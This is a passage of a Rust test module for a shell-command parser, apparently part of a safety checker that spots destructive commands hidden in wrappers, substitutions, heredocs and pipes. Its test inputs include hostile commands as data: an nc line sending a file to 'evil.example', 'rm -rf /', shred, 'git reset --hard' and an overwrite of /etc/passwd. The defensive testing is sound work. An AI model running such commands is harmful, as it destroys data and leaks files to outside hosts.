        // Unknown variables stay lookups.
        assert_eq!(
            code("python3 -c 'print(os.environ[\"HOME\"])'"),
            "print(os.environ[\"HOME\"])"
        );
    }

    #[test]
    fn variables_set_earlier_are_expanded() {
        let cmds =
            split("H=evil.example\nP=4444; export F=/srv/x\nnc $H ${P} < \"$F\"; echo $UNSET");
        let nc = cmds.iter().find(|c| c.program == "nc").unwrap();
        assert_eq!(nc.args, ["evil.example", "4444"]);
        assert_eq!(nc.redirects[0].target, "/srv/x");
        let echo = cmds.iter().find(|c| c.program == "echo").unwrap();
        assert_eq!(echo.args, ["$UNSET"]);
        // A prefix assignment belongs to its command only.
        let cmds = split("A=1 true; echo $A");
        assert_eq!(cmds.last().unwrap().args, ["$A"]);
        // Anything that may set it otherwise makes the value unknown again.
        for reset in [
            "read X",
            "source ./env.sh",
            "for X in / ; do :; done",
            "printf -v X /",
            "unset X",
        ] {
            let cmds = split(&format!("X=safe; {reset}; rm -rf $X"));
            let rm = cmds.iter().find(|c| c.program == "rm").unwrap();
            assert_eq!(rm.args, ["-rf", "$X"], "{reset}");
        }
    }

    #[test]
    fn substitutions_are_commands() {
        let p = programs("echo `git reset --hard`");
        assert!(p.contains(&"git reset --hard".to_owned()), "{p:?}");
        let p = programs("echo \"$(rm -rf /)\"");
        assert!(p.contains(&"rm -rf /".to_owned()), "{p:?}");
        let p = programs("diff <(curl http://x) y");
        assert!(p.contains(&"curl http://x".to_owned()), "{p:?}");
    }

    #[test]
    fn wrappers_and_shells_are_unwrapped() {
        let p = programs("sudo -u root env FOO=1 /usr/bin/git reset --hard");
        assert!(p.contains(&"git reset --hard".to_owned()), "{p:?}");
        let p = programs("bash -c 'rm -rf /home/user'");
        assert!(p.contains(&"rm -rf /home/user".to_owned()), "{p:?}");
        let p = programs("sh -c \"sh -c 'shred -u f'\"");
        assert!(p.contains(&"shred -u f".to_owned()), "{p:?}");
        let p = programs("timeout 5 nice -n 10 rm -rf /x");
        assert!(p.contains(&"rm -rf /x".to_owned()), "{p:?}");
        let p = programs("FOO=bar BAZ=1 make install");
        assert_eq!(p, ["make install"]);
    }

    #[test]
    fn inline_interpreter_code() {
        let cmds = split("node -e \"require('child_process').execSync('rm -rf /')\"");
        assert!(cmds.iter().any(|c| c.line() == "rm -rf /"), "{cmds:?}");
        let cmds = split("python3 -c \"import shutil; shutil.rmtree('/home/user')\"");
        let py = cmds.iter().find(|c| c.program == "python3").unwrap();
        assert!(py.code.as_deref().unwrap().contains("rmtree"));
    }

    #[test]
    fn heredocs_and_here_strings_are_data() {
        assert_eq!(
            programs("head -5 <<EOF\nrm -rf /home/user\nEOF\necho after"),
            ["head -5", "echo after"]
        );
        assert_eq!(programs("cat <<<'git reset --hard'"), ["cat"]);
        assert_eq!(programs("tee /tmp/f <<<'rm -rf /'"), ["tee /tmp/f"]);
        assert_eq!(programs("echo hi > /etc/passwd"), ["echo hi"]);
        assert_eq!(
            programs("bash <<<'rm -rf /home/user'"),
            ["rm -rf /home/user", "bash"]
        );
        assert_eq!(
            programs("sh <<EOF\ngit reset --hard\nEOF"),
            ["git reset --hard", "sh"]
        );
        // A body the input ends inside still reaches the shell, last line too.
        assert_eq!(
            programs("bash <<'X'\necho ok\nrm -rf /srv"),
            ["echo ok", "rm -rf /srv", "bash"]
        );
    }

    #[test]
    fn text_echoed_into_a_pipe_is_the_next_commands_input() {
        assert_eq!(
            programs("echo 'rm -rf /srv' | bash"),
            ["echo rm -rf /srv", "rm -rf /srv", "bash"]
        );
        assert_eq!(
            programs("printf 'id' |& sh -s"),
            ["printf id", "id", "sh -s"]
        );
        let cmds = split("echo -n a b | m4 | wc -l");
        assert_eq!(cmds[1].input, ["a b"]);
        assert!(cmds[2].input.is_empty(), "only the next command reads it");
        // `||` runs the next command instead; it reads nothing.
        assert!(split("echo hi || m4")[1].input.is_empty());
        assert!(split("echo hi; m4")[1].input.is_empty());
    }

    #[test]
    fn multi_byte_characters_are_kept_and_unicode_spaces_split() {
        assert_eq!(programs("echo 'héllo wörld' ünï"), ["echo héllo wörld ünï"]);
        assert_eq!(programs("rm\u{a0}-rf /x"), ["rm -rf /x"]);
        assert_eq!(
            programs("echo \"a\\é$(whoami)\""),
            ["whoami", "echo aé$(whoami)"]
        );
        assert_eq!(programs("echo a\\ü b"), ["echo aü b"]);
        assert_eq!(programs("ls #ça\nid"), ["ls", "id"]);
    }
}
